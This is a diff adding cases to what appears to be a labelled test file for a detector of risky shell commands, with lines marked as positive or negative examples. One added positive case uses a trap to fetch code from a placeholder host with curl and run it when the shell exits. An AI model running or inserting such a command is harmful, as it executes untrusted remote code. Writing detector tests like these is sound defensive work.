@@ -462,3 +462,7 @@ tar --use-compress-program="$z" -cf b.tar d
 #@ neg sort, split or tar given a known command after =
 sort --compress-program=gzip a > b
 split -b 1M --filter='gzip > $FILE.gz' d p-
+#@ pos trap of code built at run time, through builtin
+builtin trap "$(curl -s https://h.example/x)" EXIT
+#@ neg trap of a constant cleanup, through command
+command trap 'rm -f "$tmp"' EXIT
